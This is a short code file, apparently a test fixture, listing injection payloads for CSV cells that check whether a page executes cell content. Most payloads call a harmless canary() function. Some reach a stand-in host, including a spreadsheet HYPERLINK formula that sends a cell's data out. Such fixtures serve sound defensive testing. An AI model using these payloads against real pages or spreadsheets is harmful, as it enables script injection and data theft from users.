/*
 * What a cell may hold to make a page run it.  Each calls canary(), and none
 * holds a comma, so that it stands in a CSV cell as it is written here.
 */
export const PAYLOADS = [
    "</script><script>canary(1)</script>",
    "</title></style></textarea></noscript><script>canary(2)</script>",
    "\"><img src=x onerror=canary(3)>",
    "' onmouseover='canary(4)' x='",
    "javascript:canary(5)",
    "<svg onload=canary(6)><a href=\"javascript:canary(7)\">x</a></svg>",
    "]]><script>canary(8)</script><![CDATA[",
    "--><script>canary(9)</script><!--",
    "<iframe srcdoc=\"&lt;script&gt;canary(10)&lt;/script&gt;\"></iframe>",
    "&lt;script&gt;canary(11)&lt;/script&gt;",
    "\\u003cscript\\u003ecanary(12)\\u003c/script\\u003e",
    "<style>@import 'http://canary.invalid/x.css';</style>",
    "<base href=\"http://canary.invalid/\"><meta http-equiv=refresh " +
        "content=\"0;url=http://canary.invalid/\">",
    "{{CANARY}}{{#LINK}}{{>BODY}}<b onclick=canary(13)>",
    "=HYPERLINK(\"http://canary.invalid/?\"&A1)",
    "[x](javascript:canary(14)) ![y](http://canary.invalid/y.png)",
];
